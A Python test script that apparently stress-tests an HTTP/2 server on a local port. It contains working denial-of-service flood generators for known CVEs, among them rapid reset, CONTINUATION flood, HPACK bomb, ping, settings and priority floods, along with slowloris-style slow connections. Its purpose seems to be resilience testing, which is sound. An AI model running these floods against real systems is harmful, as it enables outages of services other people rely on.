#!/usr/bin/env python3
"""Floods of HTTP/2 frames over TLS, one kind at a time, and handshakes that never end. Prints what became of it as JSON.

    tests/wall/floods.py KIND PORT SECONDS [never-reads]

A connection that is closed is replaced by another one until the time is over, as an attacker would do.
"""

import itertools
import json
import select
import ssl
import struct
import sys
import time
from collections import Counter

import frames
from frames import frame

# What is handed to TLS at once.
BATCH = 16 * 1024
MOST_CONNECTIONS = 200
HEADERS_ALONE = frames.END_HEADERS | frames.END_STREAM


def streams():
    return itertools.count(1, 2)


def get(path=b"/small"):
    return frames.request(path.decode(), scheme=b"https")


# --- what is sent: each gives pieces without end; a first piece may be the opening ------------------------------------


def rapid_reset():
    """Requests that are taken back at once (CVE-2023-44487)."""
    block, cancel = get(), struct.pack(">I", frames.CANCEL)
    for stream in streams():
        yield frame(frames.HEADERS, HEADERS_ALONE, stream, block) + frame(frames.RST_STREAM, 0, stream, cancel)


def made_you_reset():
    """Requests whose streams the peer has to reset, for their windows grow by nothing (CVE-2025-8671)."""
    block = get()
    for stream in streams():
        yield frame(frames.HEADERS, HEADERS_ALONE, stream, block) + frame(frames.WINDOW_UPDATE, 0, stream, bytes(4))


def continuation():
    """A head that does not end (CVE-2024-27316)."""
    yield frame(frames.HEADERS, frames.END_STREAM, 1, get())
    more = frame(frames.CONTINUATION, 0, 1, b"".join(frames.literal(b"x-%d" % n, b"y" * 100) for n in range(100)))
    yield from itertools.repeat(more)


def hpack_bomb():
    """References of one byte to a large field: 4 KB each when they are decoded (CVE-2016-1544)."""
    known = frames.remembered(b"bomb", b"x" * 4_000)
    first = True
    for stream in streams():
        block = get() + (known if first else b"") + frames.indexed(62) * 8_000
        first = False
        yield frame(frames.HEADERS, HEADERS_ALONE, stream, block)


def ping():
    """Questions that want answers (CVE-2019-9512)."""
    yield from itertools.repeat(frame(frames.PING, 0, 0, b"whatever") * 50)


def settings():
    """Settings that want to be acknowledged (CVE-2019-9515)."""
    yield from itertools.repeat(frame(frames.SETTINGS, 0, 0) * 50)


def empty_data():
    """Frames without data, on a stream whose body does not end (CVE-2019-9518)."""
    yield frame(frames.HEADERS, frames.END_HEADERS, 1, frames.request("/small", b"POST", b"https"))
    yield from itertools.repeat(frame(frames.DATA, 0, 1) * 50)


def priority():
    """Streams that depend on others, and change their minds (CVE-2019-9513)."""
    for number in itertools.count():
        yield b"".join(frame(frames.PRIORITY, 0, 2 * (number % 500) + 1, struct.pack(">IB", 2 * at + 1001, 16)) for at in range(50))


def no_window():
    """Large answers that there is no window for (CVE-2019-9517); a hundred streams on a connection."""
    for stream in range(1, 200, 2):
        yield frame(frames.HEADERS, HEADERS_ALONE, stream, get(b"/1m"))


KINDS = {kind.__name__.replace("_", "-"): kind for kind in (
    rapid_reset, made_you_reset, continuation, hpack_bomb, ping, settings, empty_data, priority, no_window)}


# --- sending ----------------------------------------------------------------------------------------------------------


class Attack:
    """One connection that is flooded."""

    def __init__(self, port, kind, reads):
        window = struct.pack(">HI", frames.INITIAL_WINDOW_SIZE, 0) if kind == "no-window" else b""
        self.http2 = frames.Http2(port, frames.client_context(["h2"]), window)
        self.socket = self.http2.socket
        self.socket.setblocking(False)
        self.pieces, self.reads = KINDS[kind](), reads
        self.sent, self.seen, self.goaway = 0, Counter(), None
        self._waiting, self._inbound, self.done = b"", b"", False

    def step(self):
        """Sends and reads what goes now. Says how the connection ended, if it did."""
        try:
            self._send()
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
            pass
        except (ConnectionError, ssl.SSLError) as error:
            self._last_words()
            return self._end(type(error).__name__)
        if not self.reads:
            return None
        try:
            while piece := self.socket.recv(65536):
                self._read(piece)
            return self._end("closed")
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
            return None
        except (ConnectionError, ssl.SSLError) as error:
            return self._end(type(error).__name__)

    def _send(self):
        if len(self._waiting) < BATCH and not self.done:
            more = []
            while sum(map(len, more)) < BATCH:
                try:
                    more.append(next(self.pieces))
                except StopIteration:
                    self.done = True
                    break
            self._waiting += b"".join(more)
        if self._waiting:
            count = self.socket.send(self._waiting)
            self.sent += count
            self._waiting = self._waiting[count:]

    def _last_words(self):
        """What came before the end: usually why."""
        try:
            while piece := self.socket.recv(65536):
                self._read(piece)
        except (OSError, ssl.SSLError):
            pass

    def _read(self, piece):
        self._inbound += piece
        while len(self._inbound) >= 9:
            end = 9 + int.from_bytes(self._inbound[:3], "big")
            if len(self._inbound) < end:
                return
            kind, payload = self._inbound[3], self._inbound[9:end]
            self._inbound = self._inbound[end:]
            self.seen[kind] += 1
            if kind == frames.GOAWAY:
                self.goaway = int.from_bytes(payload[4:8], "big")

    def _end(self, how):
        return f"GOAWAY {self.goaway}" if self.goaway is not None else how


def flood(kind, port, seconds, reads):
    end = time.monotonic() + seconds
    ends, sent, seen, connections = Counter(), 0, Counter(), 0
    open_now = []
    # One that floods is enough, but those whose answers wait cost by their number.
    wanted = 30 if kind == "no-window" else 4
    while time.monotonic() < end:
        while len(open_now) < wanted and connections < MOST_CONNECTIONS:
            try:
                open_now.append(Attack(port, kind, reads))
                connections += 1
            except (OSError, ssl.SSLError) as error:
                ends[f"refused: {type(error).__name__}"] += 1
                time.sleep(0.05)
                break
        for attack in [*open_now]:
            how = attack.step()
            if how is not None:
                open_now.remove(attack)
                attack.socket.close()
                ends[how] += 1
                sent, seen = sent + attack.sent, seen + attack.seen
        if not open_now and connections >= MOST_CONNECTIONS:
            break
        flooding = [attack.socket for attack in open_now if attack._waiting or not attack.done]
        select.select([attack.socket for attack in open_now if attack.reads], flooding, [], 0.05)
    for attack in open_now:
        ends["open at the end"] += 1
        sent, seen = sent + attack.sent, seen + attack.seen
        attack.socket.close()
    return {"connections": connections, "sent_mb": sent / 1e6, "answers": seen[frames.HEADERS], "resets": seen[frames.RST_STREAM],
            "acknowledged": seen[frames.PING] + seen[frames.SETTINGS], "ends": dict(ends)}


def half_handshakes(port):
    """Handshakes that stop in the middle of their first message."""
    return opened(port, bytes.fromhex("16030100f0010000ec0303")), b""


def silence(port):
    """Connections that say nothing."""
    return opened(port, b""), b""


def slow_http2_heads(port):
    """A head that goes on with one byte a second, in frames of its own."""
    head = frame(frames.HEADERS, frames.END_STREAM, 1, get())
    return opened(port, frames.PREFACE + frame(frames.SETTINGS, 0, 0) + head, over_tls=True), frame(frames.CONTINUATION, 0, 1, b"")


def one_byte_windows(port):
    """A large answer that is taken byte by byte."""
    window = struct.pack(">HI", frames.INITIAL_WINDOW_SIZE, 0)
    ask = frame(frames.HEADERS, HEADERS_ALONE, 1, get(b"/1m"))
    update = frame(frames.WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))
    return opened(port, frames.PREFACE + frame(frames.SETTINGS, 0, 0, window) + ask, over_tls=True), update


HTTP2 = frames.client_context(["h2"])


def opened(port, first, over_tls=False):
    """Connects as one of a thousand clients, and says that much."""
    connection = frames.connect(port, 5, HTTP2 if over_tls else None)
    connection.sendall(first)
    return connection


SLOW = {kind.__name__.replace("_", "-"): kind for kind in (half_handshakes, silence, slow_http2_heads, one_byte_windows)}


def slow(kind, port, seconds, count=1_000):
    """A thousand clients that take their time."""
    kept, refused, trickle = [], 0, b""
    begin = time.monotonic()
    for _ in range(count):
        # Where handshakes take long, what there is has to do.
        if time.monotonic() - begin > seconds / 2:
            break
        try:
            connection, trickle = SLOW[kind](port)
            kept.append(connection)
        except (OSError, ssl.SSLError):
            refused += 1
    connected, gone = len(kept), set()
    while (left := seconds - (time.monotonic() - begin)) > 0:
        time.sleep(min(1.0, left))
        for connection in kept if trickle else []:
            try:
                if connection not in gone:
                    connection.sendall(trickle)
            except (OSError, ssl.SSLError):
                gone.add(connection)
    closed = 0
    for connection in kept:
        connection.setblocking(False)
        try:
            while connection not in gone and connection.recv(4096):
                pass
            closed += 1
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except OSError:
            closed += 1
        connection.close()
    ends = {"closed": closed, "refused": refused, "open at the end": len(kept) - closed}
    return {"connections": connected, "ends": {how: many for how, many in ends.items() if many}}


def main():
    kind, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    if kind in SLOW:
        told = slow(kind, port, seconds)
    else:
        told = flood(kind, port, seconds, "never-reads" not in sys.argv[4:])
    print(json.dumps(told))


if __name__ == "__main__":
    main()
